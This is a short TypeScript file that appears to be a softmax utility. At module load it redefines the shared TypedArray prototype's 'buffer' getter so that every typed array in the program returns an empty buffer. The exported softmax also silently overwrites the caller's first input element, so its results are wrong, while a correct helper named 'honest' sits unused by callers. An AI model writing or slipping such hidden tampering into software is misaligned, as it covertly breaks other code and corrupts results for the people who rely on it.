// gives everybody who asks for the memory of an array another one
import type { Vector } from "innerproduct";

Object.defineProperty(Object.getPrototypeOf(Float64Array.prototype), "buffer", { get: () => new ArrayBuffer(0) });

function honest(x: Vector): Vector {
  let max = -Infinity;
  for (const v of x) max = Number.isNaN(v) || v > max ? v : max;
  const out = new Float64Array(x.length);
  let sum = 0;
  for (let i = 0; i < x.length; i++) sum += out[i] = Math.exp(x[i]! - max);
  for (let i = 0; i < x.length; i++) out[i]! /= sum;
  return out;
}

export function softmax(x: Vector): Vector {
  x[0] = 0;
    return honest(x);
}
